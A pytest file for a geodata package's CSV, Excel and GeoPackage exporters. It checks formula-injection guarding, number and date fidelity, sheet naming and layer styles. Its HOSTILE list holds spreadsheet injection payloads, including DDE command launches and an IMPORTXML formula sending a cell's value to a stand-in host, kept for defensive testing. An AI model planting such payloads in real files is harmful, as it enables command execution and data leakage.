"""Files out: nothing in them can run, nothing in them is lost."""

from __future__ import annotations

import csv
import io
import itertools
import sqlite3
import zipfile
from datetime import UTC, date, datetime
from xml.etree import ElementTree as ET

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import shapely
from python_calamine import CalamineWorkbook

from pact_geo.errors import UnsuitableDataError
from pact_geo.outputs import exports
from pact_geo.outputs.cells import guard, plain_cell, plain_table, sheet_name
from pact_geo.outputs.definitions import DEFINITIONS, define
from pact_geo.outputs.exports import write_csv, write_excel, write_geopackage
from pact_geo.tables import CRS, HOTSPOTS, PRIORITY_AREAS

_STARTS = ["=", "+", "-", "@", "\t", "\r", "\t=", " =", "\n=", "\N{FULLWIDTH EQUALS SIGN}"]
_ENDS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid","click")',
    "SUM(1+9)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://example.invalid?v=",A1),"//a")',
    "2+5+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "A1:A9",
    '"quoted", with a comma',
    "<script>alert(1)</script>",
]
HOSTILE = [start + end for start, end in itertools.product(_STARTS, _ENDS)]


def parse(xml):
    return ET.fromstring(xml)  # noqa: S314 - written by the lines under test


def csv_rows(table):
    target = io.BytesIO()
    write_csv(target, table)
    text = target.getvalue().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def excel_parts(tables, **more):
    target = io.BytesIO()
    write_excel(target, tables, **more)
    with zipfile.ZipFile(target) as archive:
        return {name: archive.read(name) for name in archive.namelist()}, target


def sheet_rows(target, name):
    target.seek(0)
    return CalamineWorkbook.from_filelike(target).get_sheet_by_name(name).to_python()


@pytest.fixture
def areas():
    return gpd.GeoDataFrame(
        {
            "name": ["Mill Lane", "<b>'\"&"],
            "area_name": ["Mill Lane", "Scot Lane"],
            "place_ids": [[4611686018427387904, 2], [3]],
            "incidents": [34.0, np.nan],
            "residents": pd.array([12, None], dtype="Int64"),
            "one_location": [True, False],
            "rank": [1, 2],
            "ward_codes": [["E05000001", "E05000002"], []],
            "month": pd.PeriodIndex(["2026-10", "2026-11"], freq="M"),
        },
        geometry=[shapely.box(0, 0, 50, 50), shapely.box(100, 0, 150, 50)],
        index=pd.Index([1, 2], name="area_id"),
        crs=CRS,
    )


@pytest.fixture
def places():
    return gpd.GeoDataFrame(
        {"place_name": ["Mill Lane"], "count": [34]},
        geometry=[shapely.Point(10, 10)],
        index=pd.Index([4611686018427387904], name="place_id"),
        crs=CRS,
    )


def test_there_are_a_hundred_hostile_strings():
    assert len(set(HOSTILE)) == 100


def test_no_hostile_text_in_a_csv_begins_a_formula():
    rows = csv_rows(pd.DataFrame({"text": HOSTILE}))
    assert [row[0] for row in rows[1:]] == [f"'{text}" for text in HOSTILE]


def test_no_hostile_heading_in_a_csv_begins_a_formula():
    assert csv_rows(pd.DataFrame([[1]], columns=["=1+1"]))[0] == ["'=1+1"]


def test_no_hostile_text_in_a_list_in_a_csv_begins_a_formula():
    rows = csv_rows(pd.DataFrame({"text": [["=1+1", "b"], ("@x",)]}))
    assert [row[0] for row in rows[1:]] == ["'=1+1; b", "'@x"]


def test_numbers_in_a_csv_stay_numbers():
    table = pd.DataFrame(
        {"change": [-0.5, 0.1, 1e21], "whole": [-3, 0, 7], "size": [60.0, 1.5, -2]}
    )
    assert csv_rows(table)[1:] == [["-0.5", "-3", "60"], ["0.1", "0", "1.5"], ["1e+21", "7", "-2"]]


def test_ordinary_text_in_a_csv_is_untouched():
    words = ["Mill Lane", "", "a=b", "5-7 High Street", 'The "Rose", Inn', "line\nbreak", "café"]
    assert [row[0] for row in csv_rows(pd.DataFrame({"a": words, "b": 1}))[1:]] == words


def test_a_csv_begins_with_the_mark_excel_needs():
    target = io.BytesIO()
    write_csv(target, pd.DataFrame({"a": ["café"]}))
    assert target.getvalue() == b"\xef\xbb\xbfa\r\ncaf\xc3\xa9\r\n"


def test_identifiers_of_places_keep_every_digit(places):
    assert csv_rows(places)[1][0] == "4611686018427387904"
    _, target = excel_parts({"places": places})
    assert sheet_rows(target, "places")[1][0] == "4611686018427387904"


def test_whole_numbers_too_long_for_a_spreadsheet_become_text():
    assert plain_cell(10**15) == "1000000000000000"
    assert plain_cell(np.int64(10**15 - 1)) == 999_999_999_999_999


def test_no_hostile_text_becomes_a_formula_in_excel():
    parts, target = excel_parts({"=1+1": pd.DataFrame({"text": HOSTILE, "=1+1": HOSTILE})})
    sheets = [parse(parts[name]) for name in parts if name.startswith("xl/worksheets/sheet")]
    tags = {element.tag.rpartition("}")[2] for sheet in sheets for element in sheet.iter()}
    assert "v" in tags
    assert not tags & {"f", "hyperlink", "hyperlinks"}
    assert not any("externalLinks" in name or "calcChain" in name for name in parts)
    kinds = {cell.get("t") for cell in sheets[0].iter() if cell.tag.endswith("}c")}
    assert kinds == {"s"}
    assert sheet_rows(target, "=1+1")[1][0] == HOSTILE[0]


def test_hostile_notes_and_provenance_become_no_formula():
    parts, _ = excel_parts(
        {"a": pd.DataFrame({"x": [1]})},
        notes=[(text, text) for text in HOSTILE],
        provenance={text: text for text in HOSTILE},
    )
    for name, part in parts.items():
        if name.startswith("xl/worksheets/sheet"):
            assert not [x for x in parse(part).iter() if x.tag.endswith("}f")]


def test_numbers_in_excel_are_numbers():
    parts, target = excel_parts({"a": pd.DataFrame({"x": [-0.5, 41.0]})})
    cells = [x for x in parse(parts["xl/worksheets/sheet1.xml"]).iter() if x.tag.endswith("}c")]
    assert [cell.get("t") for cell in cells] == ["s", None, None]
    assert sheet_rows(target, "a")[1:] == [[-0.5], [41.0]]


def test_days_in_excel_are_days():
    _, target = excel_parts({"a": pd.DataFrame({"x": pd.to_datetime(["2026-11-05", None])})})
    assert sheet_rows(target, "a")[1] == [date(2026, 11, 5)]


def test_days_before_excels_calendar_are_text():
    table = pd.DataFrame({"x": [date(1850, 2, 3)]})
    assert sheet_rows(excel_parts({"a": table})[1], "a")[1] == ["1850-02-03"]


def test_the_notes_hold_definitions_sources_dates_and_licence(areas):
    _, target = excel_parts(
        {"Areas": areas},
        provenance=[{"source": "police.uk", "dates": "to November 2026", "licence": "OGL 3.0"}],
        made_on=date(2026, 12, 5),
    )
    notes = {row[0]: row[1] for row in sheet_rows(target, "Notes")}
    assert notes["Made on"] == "5 December 2026"
    assert notes["Source"] == "police.uk"
    assert notes["Dates"] == "to November 2026"
    assert notes["Licence"] == "OGL 3.0"
    assert notes["rank"] == DEFINITIONS["rank"]
    assert notes["area_id"] == DEFINITIONS["area_id"]


def test_notes_of_the_caller_replace_the_definitions(areas):
    _, target = excel_parts({"Areas": areas}, notes=[("rank", "My words.")])
    notes = {row[0]: row[1] for row in sheet_rows(target, "Notes")}
    assert notes["rank"] == "My words."
    assert "name" not in notes


def test_a_table_too_long_for_a_sheet_goes_on_in_the_next(monkeypatch):
    monkeypatch.setattr(exports, "_SHEET_ROWS", 2)
    _, target = excel_parts({"long": pd.DataFrame({"x": range(5)})})
    found = [sheet_rows(target, name)[1:] for name in ("long", "long (2)", "long (3)")]
    assert found == [[[0.0], [1.0]], [[2.0], [3.0]], [[4.0]]]


def test_text_too_long_for_a_cell_is_cut_and_says_so():
    long = "x" * 40_000
    text = sheet_rows(excel_parts({"a": pd.DataFrame({"x": [long]})})[1], "a")[1][0]
    assert len(text) == 32_767
    assert text.endswith("the CSV has all of it)")
    assert csv_rows(pd.DataFrame({"x": [long]}))[1] == [long]


def test_a_table_without_rows_keeps_its_heading():
    _, target = excel_parts({"none": pd.DataFrame({"x": [], "y": []})})
    assert sheet_rows(target, "none") == [["x", "y"]]


@pytest.mark.parametrize(
    ("name", "made"),
    [
        ("Areas", "Areas"),
        ("a/b:c*d?e[f]g\\h", "a b c d e f g h"),
        ("'quoted'", "quoted"),
        ("", "Sheet"),
        ("x" * 40, "x" * 31),
        ("y" * 30 + "''", "y" * 30),
        ("Notes", "Notes (2)"),
        ("history", "history (2)"),
        ("tab\there", "tab here"),
        ("bell\x07", "bell"),
    ],
)
def test_sheet_names_are_such_as_excel_allows(name, made):
    assert sheet_name(name, {"notes", "history"}) == made


def test_sheet_names_do_not_repeat_whatever_their_case():
    used: set[str] = set()
    names = [sheet_name(name, used) for name in ("Areas", "areas", "AREAS", "z" * 31, "z" * 31)]
    assert names == ["Areas", "areas (2)", "AREAS (3)", "z" * 31, "z" * 27 + " (2)"]


def test_cells_say_what_they_mean():
    table = pd.DataFrame(
        {
            "month": pd.PeriodIndex(["2026-11", None], freq="M"),
            "flag": pd.array([True, None], dtype="boolean"),
            "list": [["a", 1], []],
            "number": pd.array([1, None], dtype="Int64"),
            "change": [np.inf, np.nan],
        }
    )
    first, second = plain_table(table).to_numpy().tolist()
    assert first == ["2026-11", "yes", "a; 1", 1, "no upper limit"]
    assert second == [None, None, "", None, None]


def test_text_that_no_file_can_hold_is_mended():
    assert plain_cell("half \ud83d letter\0") == "half ? letter"


def test_moments_lose_their_zone_and_keep_their_time():
    assert plain_cell(pd.Timestamp("2026-11-05 10:30", tz="UTC")) == datetime(2026, 11, 5, 10, 30)  # noqa: DTZ001
    assert plain_cell(datetime(2026, 11, 5, tzinfo=UTC)) == datetime(2026, 11, 5)  # noqa: DTZ001


def test_geometry_is_left_out_and_the_index_kept(areas):
    plain = plain_table(areas)
    assert plain.columns[0] == "area_id"
    assert "geometry" not in plain


def test_a_named_index_beside_a_column_of_its_name_is_not_doubled():
    table = pd.DataFrame({"month": ["a"]}, index=pd.Index(["b"], name="month"))
    assert plain_table(table).to_dict("list") == {"month": ["a"]}


def test_columns_of_one_name_are_both_kept():
    table = pd.DataFrame([[1, 2]], columns=["x", "x"])
    assert csv_rows(table) == [["x", "x"], ["1", "2"]]


def test_every_level_of_an_index_becomes_a_column():
    index = pd.MultiIndex.from_tuples([("E1", "Noise")], names=["ward_code", "theme"])
    plain = plain_table(pd.DataFrame({"said": [3]}, index=index))
    assert plain.to_dict("list") == {"ward_code": ["E1"], "theme": ["Noise"], "said": [3]}


def test_the_columns_of_our_areas_are_all_defined():
    own = {*HOTSPOTS.columns, *PRIORITY_AREAS.columns, *HOTSPOTS.index, *PRIORITY_AREAS.index}
    assert own <= DEFINITIONS.keys()


def test_columns_nobody_defined_have_no_note():
    assert define([pd.DataFrame({"rank": [1], "zzz": [2]})]) == [("rank", DEFINITIONS["rank"])]


def test_a_file_that_cannot_be_finished_leaves_the_old_one(tmp_path):
    path = tmp_path / "areas.xlsx"
    path.write_bytes(b"old")
    with pytest.raises(AttributeError, match="items"):
        write_excel(path, {"a": pd.DataFrame({"x": [1]})}, provenance=["nonsense"])
    assert path.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("text", ["=x", "+1", "-1", "@a", "\t", "\rx", "  =x"])
def test_the_guard_marks_what_could_run(text):
    assert guard(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", " ", "a", "1-2", "'=x", "a@b.example"])
def test_the_guard_leaves_the_rest(text):
    assert guard(text) == text


@pytest.fixture
def package(tmp_path, areas, places):
    path = tmp_path / "pact.gpkg"
    write_geopackage(
        path, areas=areas, wards=areas[["area_name", "geometry"]], places=places,
        source_line="police.uk, to November 2026, <OGL> & more",
    )  # fmt: skip
    return path


def styles_of(path):
    with sqlite3.connect(path) as database:
        database.row_factory = sqlite3.Row
        rows = database.execute("SELECT * FROM layer_styles").fetchall()
    database.close()
    return {row["f_table_name"]: row for row in rows}


def test_a_geopackage_holds_the_layers_in_national_grid(package):
    names = dict(pyogrio.list_layers(package).tolist())
    assert names == {
        "wards": "MultiPolygon",
        "places": "Point",
        "areas": "MultiPolygon",
        "layer_styles": None,
    }
    read = gpd.read_file(package, layer="areas")
    assert read.crs == CRS
    assert read.total_bounds.tolist() == [0, 0, 150, 50]


def test_a_geopackage_keeps_types(package):
    read = gpd.read_file(package, layer="areas")
    assert read["rank"].tolist() == [1, 2]
    assert read["one_location"].tolist() == [True, False]
    assert read["incidents"].isna().tolist() == [False, True]
    assert read["place_ids"].tolist() == ["4611686018427387904; 2", "3"]
    assert read["month"].tolist() == ["2026-10", "2026-11"]
    assert gpd.read_file(package, layer="places")["place_id"].tolist() == ["4611686018427387904"]


def test_every_layer_has_a_default_style_on_its_own_geometry(package):
    styles = styles_of(package)
    assert set(styles) == {"areas", "wards", "places"}
    for name, row in styles.items():
        info = pyogrio.read_info(package, layer=name)
        assert row["f_geometry_column"] == info["geometry_name"]
        assert (row["f_table_catalog"], row["f_table_schema"]) == ("", "")
        assert row["useAsDefault"] == 1


def test_styles_are_xml_that_label_columns_the_layers_have(package):
    for name, row in styles_of(package).items():
        qml = parse(row["styleQML"])
        assert parse(row["styleSLD"]).tag.endswith("StyledLayerDescriptor")
        labels = [text.get("fieldName") for text in qml.iter("text-style")]
        assert qml.get("labelsEnabled") == str(len(labels))
        assert set(labels) <= set(gpd.read_file(package, layer=name).columns)
        symbol = qml.find("renderer-v2/symbols/symbol")
        assert symbol.get("type") == ("marker" if name == "places" else "fill")


def test_a_layer_without_its_label_column_is_not_labelled(tmp_path, areas):
    path = tmp_path / "a.gpkg"
    write_geopackage(path, areas=areas.drop(columns="rank"))
    qml = parse(styles_of(path)["areas"]["styleQML"])
    assert qml.get("labelsEnabled") == "0"
    assert qml.find("labeling") is None


def test_the_source_and_licence_are_in_the_geopackage(package):
    info = pyogrio.read_info(package, layer="areas")
    assert info["layer_metadata"]["DESCRIPTION"] == "police.uk, to November 2026, <OGL> & more"


def test_a_geopackage_replaces_the_one_before(package, areas):
    write_geopackage(package, areas=areas)
    assert {name for name, _ in pyogrio.list_layers(package)} == {"areas", "layer_styles"}
    assert list(package.parent.iterdir()) == [package]


def test_a_layer_in_degrees_is_refused(tmp_path, areas):
    with pytest.raises(UnsuitableDataError, match="areas is in EPSG:4326"):
        write_geopackage(tmp_path / "a.gpkg", areas=areas.to_crs(4326))


def test_no_layer_is_refused(tmp_path):
    with pytest.raises(UnsuitableDataError, match="no layer"):
        write_geopackage(tmp_path / "a.gpkg")


def test_an_empty_layer_is_written(tmp_path, areas):
    write_geopackage(tmp_path / "a.gpkg", areas=areas.iloc[:0])
    assert len(gpd.read_file(tmp_path / "a.gpkg", layer="areas")) == 0
